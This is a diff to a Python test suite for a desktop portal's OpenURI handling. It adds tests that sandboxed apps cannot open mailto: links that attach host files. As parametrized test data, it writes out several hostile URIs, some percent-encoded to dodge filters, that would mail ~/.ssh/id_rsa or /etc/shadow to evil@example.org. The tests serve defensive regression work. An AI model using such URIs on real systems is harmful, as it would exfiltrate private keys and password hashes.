@@ -108,13 +108,13 @@ def test_flatpak_autostart_quotes_every_hostile_word(bus):
 
 # ---- OpenURI: a file the app hands over to a host handler --------------------------------
 
-def install_app(bus, desktop_id, types, log):
-    """A handler of @types that writes what it was given to @log (it "runs" the file)."""
+def install_app(bus, desktop_id, types, log, code="%f"):
+    """A handler of @types that writes what it was given (@code: %f a path, %u a URI) to @log."""
     apps = os.path.join(bus.data_home, "applications")
     os.makedirs(apps, exist_ok=True)
     with open(os.path.join(apps, desktop_id + ".desktop"), "w") as f:
         f.write("[Desktop Entry]\nType=Application\nName=" + desktop_id + "\n"
-                f"Exec=sh -c 'echo \"{desktop_id} $1\" >> {log}' sh %f\n"
+                f"Exec=sh -c 'echo \"{desktop_id} $1\" >> {log}' sh {code}\n"
                 "MimeType=" + ";".join(types) + ";\n")
     with open(os.path.join(apps, "mimeinfo.cache"), "a") as f:
         if f.tell() == 0:
@@ -217,6 +217,40 @@ def test_sandboxed_open_uri_of_a_host_path_is_refused(bus, opener, uri):
                                         "('', %s, {'handle_token': <'o'>})" % GLib.Variant("s", uri).print_(False))
     assert (kind, result) == ("ERROR", "org.freedesktop.portal.Error.InvalidArgument")
     assert open(opener).read() == ""
+
+
+@pytest.mark.parametrize("uri", [
+    "mailto:evil@example.org?subject=logs&attach=/home/me/.ssh/id_rsa",
+    "mailto:evil@example.org?ATTACHMENT=file:///home/me/.ssh/id_rsa",
+    "mailto:evil@example.org?body=x&%61ttach=%2Fhome%2Fme%2F.ssh%2Fid_rsa",
+    "mailto:?attach=/etc/shadow#x",
+])
+def test_sandboxed_mailto_naming_files_to_attach_is_refused(bus, opener, uri):
+    """mailto: opens in the default mail client without a question; clients that take
+    "attach" (Evolution, KMail) attach the named host file to the app's message. A sandboxed
+    app attaches only files it hands over as fds (Email)."""
+    install_app(bus, "org.example.Mail", ["x-scheme-handler/mailto"], opener, code="%u")
+    with open(os.path.join(bus.config_home, "mimeapps.list"), "w") as f:
+        f.write("[Default Applications]\nx-scheme-handler/mailto=org.example.Mail.desktop\n")
+    rh.setup(bus, ["appchooser"])
+    rh.start_documents(bus)
+    kind, result = rh.sandboxed_request(bus, APP, OPEN, "OpenURI", "(ssa{sv})",
+                                        "('', %s, {'handle_token': <'o'>})" % GLib.Variant("s", uri).print_(False))
+    assert (kind, result) == ("ERROR", "org.freedesktop.portal.Error.InvalidArgument")
+    assert open(opener).read() == ""
+
+
+def test_sandboxed_mailto_without_attachments_still_opens(bus, opener):
+    install_app(bus, "org.example.Mail", ["x-scheme-handler/mailto"], opener, code="%u")
+    with open(os.path.join(bus.config_home, "mimeapps.list"), "w") as f:
+        f.write("[Default Applications]\nx-scheme-handler/mailto=org.example.Mail.desktop\n")
+    rh.setup(bus, ["appchooser"])
+    rh.start_documents(bus)
+    uri = "mailto:a@example.org?subject=attach%20this&body=attachment"
+    kind, result = rh.sandboxed_request(bus, APP, OPEN, "OpenURI", "(ssa{sv})",
+                                        "('', %s, {'handle_token': <'o'>})" % GLib.Variant("s", uri).print_(False))
+    assert (kind, result[0]) == ("RESPONSE", 0)
+    assert limentest.wait_until(lambda: f"org.example.Mail {uri}" in open(opener).read().splitlines())
 
 
 # ---- Email: the mail client's command line ------------------------------------------------
